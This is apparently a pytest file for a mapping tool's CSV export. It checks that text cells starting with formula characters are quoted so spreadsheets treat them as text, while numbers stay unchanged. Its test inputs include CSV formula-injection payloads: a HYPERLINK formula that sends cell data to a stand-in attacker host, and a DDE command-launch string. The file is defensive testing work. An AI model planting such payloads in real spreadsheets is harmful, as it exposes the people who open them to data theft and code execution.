"""CSV outputs a spreadsheet opens safely: no live formulas, numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from geomap.cli import main
from geomap.export.tables import (
    FORMULA_STARTS,
    _one_line_end,
    neutralise_cell,
    neutralise_formulas,
    write_csv,
)

from .conftest import CONTROL, DISPLACEMENT, TOWNS
from .conftest import write_csv as write_fixture

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1", "=1+1"]


def _rows(path: Path) -> list[dict[str, str]]:
    """The rows of a CSV file as text, header first excluded."""
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_quoted(attack: str):
    """Text starting with = + - @ tab or CR gets a leading single quote."""
    assert neutralise_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-4", "+1.5", "-0.25", "2.5e3", "1200", "Goma",
                                   "M23/AFC", "", "'already", " =spaced"])
def test_numbers_and_plain_text_stay_as_they_are(value: str):
    """A negative number stays a number; ordinary text is unchanged."""
    assert neutralise_cell(value) == value


def test_write_csv_quotes_text_only(tmp_path: Path):
    """Text columns are neutralised; numeric columns (negatives too) are untouched.

    A carriage return in text is written as a line feed, which CSV writers quote.
    """
    table = pd.DataFrame({"name": pd.array(ATTACKS + ["Goma"], dtype="string"),
                          "value": ["-4", "=1", None, "x", "5", "6", "7", "8"],
                          "people": [-3, 1, 2, 3, 4, 5, 6, 7]})
    path = write_csv(table, tmp_path / "t.csv")
    rows = _rows(path)
    assert len(rows) == len(table)  # a carriage return does not end a row
    assert [row["name"] for row in rows] == ["'" + a.replace("\r", "\n")
                                             for a in ATTACKS] + ["Goma"]
    assert [row["value"] for row in rows][:3] == ["-4", "'=1", ""]
    assert rows[0]["people"] == "-3"


def test_every_csv_of_a_build_is_safe(shapes_dir: Path, tmp_path: Path):
    """Names from the data reach four CSVs of a build, never as a live formula."""
    evil = {"town": '=HYPERLINK("http://evil.example","x")', "area": "+cmd|' /C calc'!A0",
            "source": "@SUM(1)", "people": "\t=1+1"}
    write_fixture(shapes_dir / "towns.csv",
                  ["town_id", "name", "lon", "lat", "pcode", "province_pcode", "source",
                   "url"],
                  [(*TOWNS[0][:1], evil["town"], *TOWNS[0][2:], "test", ""),
                   *[(*town, "test", "") for town in TOWNS[1:]]])
    write_fixture(shapes_dir / "control.csv",
                  ["area", "actor", "start", "end", "confidence", "source", "url", "note"],
                  [*[(*row, evil["source"], "", "") for row in CONTROL],
                   (evil["area"], "m23", "2024-11-01", "", "assessed", "x", "", "")])
    write_fixture(shapes_dir / "displacement.csv",
                  ["area", "people", "date", "assessment", "source"],
                  [*[(*row, "test") for row in DISPLACEMENT],
                   ("T02", evil["people"], "2025-01-15", "r2", "test")])
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", "--quiet", "--shapes-dir",
                                       str(shapes_dir), "--out", str(out), "--date",
                                       "2025-02-20", "--compare", "2024-12-01",
                                       "--outputs", "tables"])
    assert result.exit_code == 0, result.stderr
    seen = set()
    for name in ("summary_areas", "changes", "rejects", "join_report"):
        for row in _rows(out / f"{name}.csv"):
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                if cell.startswith("'"):
                    seen.add(name)
    assert seen == {"summary_areas", "changes", "rejects", "join_report"}


def _neutralised_cell_by_cell(table: pd.DataFrame) -> pd.DataFrame:
    """neutralise_formulas as it read every text column: each cell made an object
    and tested; a column with a changed cell written back as objects."""
    table = table.rename(columns=neutralise_cell)
    for column in table.columns:
        values = table[column]
        if pd.api.types.is_numeric_dtype(values) or pd.api.types.is_datetime64_any_dtype(
                values):
            continue
        cells = values.astype(object).to_numpy()
        risky = np.array([isinstance(v, str) and (v.startswith(FORMULA_STARTS)
                                                   or "\r" in v) for v in cells],
                         dtype=bool)
        if risky.any():
            cells = cells.copy()
            cells[risky] = [_one_line_end(neutralise_cell(v)) for v in cells[risky]]
            table[column] = pd.Series(cells, index=table.index, name=column)
    return table


@pytest.mark.parametrize("dtype", ["str", "string[pyarrow]", "string[python]", "object",
                                   "category"])
@pytest.mark.parametrize("cell", [*ATTACKS, "-4", "a\rb", "a\nb", "Goma", "ça =1",
                                  " =1", "=", ""])
def test_columns_are_looked_through_as_each_cell_is(dtype, cell):
    """Each text column, of each kind of text, is changed (or left) as testing each
    cell makes it: the same values and dtypes, a plain number's column included."""
    table = pd.DataFrame({"text": pd.Series([None, "Goma", cell, "Bukavu"], dtype=dtype),
                          "plain": pd.Series(["a", None, "b", "c"], dtype=dtype),
                          "count": [1, 2, 3, 4]})
    pd.testing.assert_frame_equal(neutralise_formulas(table),
                                  _neutralised_cell_by_cell(table))
